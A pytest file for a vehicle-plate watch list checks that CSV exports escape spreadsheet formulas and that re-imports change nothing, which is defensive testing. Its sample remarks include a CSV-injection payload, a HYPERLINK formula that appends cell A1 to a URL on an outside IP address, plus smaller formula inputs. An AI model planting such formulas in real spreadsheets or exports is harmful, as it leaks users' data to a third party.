"""G42, the part of lists and hits: exports run nothing, plates stay text, and importing an export changes nothing."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from guardian.watch.views import EntryDraft
from tests.watch.house import open_house

pytestmark = pytest.mark.anyio

REMARKS = ['=HYPERLINK("http://203.0.113.9/?"&A1,"詳")', "+886-2-2345-6789", "-1+1", "@SUM(A1)", "\tx", "行一\n行二"]
PLATES = ["3E-0012", "MAR-2025", "048-0580", "ABC-1235", "ABC-2235", "ABC-3235"]


async def test_an_exported_list_runs_nothing_and_comes_back_unchanged(tmp_path: Path) -> None:
    async with open_house(tmp_path) as house:
        await house.save(
            put=[
                EntryDraft(plate, "失竊", remark=remark, reason=remark, expires="2027-01-31", silent=n % 2 == 0)
                for n, (plate, remark) in enumerate(zip(PLATES, REMARKS, strict=True))
            ]
        )
        before = await house.entries()
        body = b"".join([piece async for piece in house.keeper.export_csv("stolen")])
        assert body.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        for row in rows[1:]:
            assert all(not cell or cell[0] not in "=+-@\t" for cell in row)
        assert {row[0] for row in rows[1:]} == {"'3E-0012", "'MAR-2025", *PLATES[2:]}
        plan = await house.importer.plan("stolen", body, house.lin, mode="replace")
        assert (plan.rows, plan.same, plan.refused, plan.removed, plan.report) == (6, 6, 0, 0, ())
        await house.importer.apply(plan.id, house.lin)
        assert await house.entries() == before


async def test_the_rows_that_were_refused_go_back_harmless_with_the_reason(tmp_path: Path) -> None:
    body = '車號,類別,備註\n無牌,失竊,"=1+1"\nABC-1235,失竊,好\n'.encode()
    async with open_house(tmp_path) as house:
        plan = await house.importer.plan("stolen", body, house.lin)
        back = (await house.importer.refused_csv(plan.id)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(back, newline="")))
    assert rows[0] == ["車號", "類別", "備註", "原列號", "退回原因"]
    assert rows[1][:4] == ["無牌", "失竊", "'=1+1", "2"] and "沒有車牌" in rows[1][4]
    assert len(rows) == 2
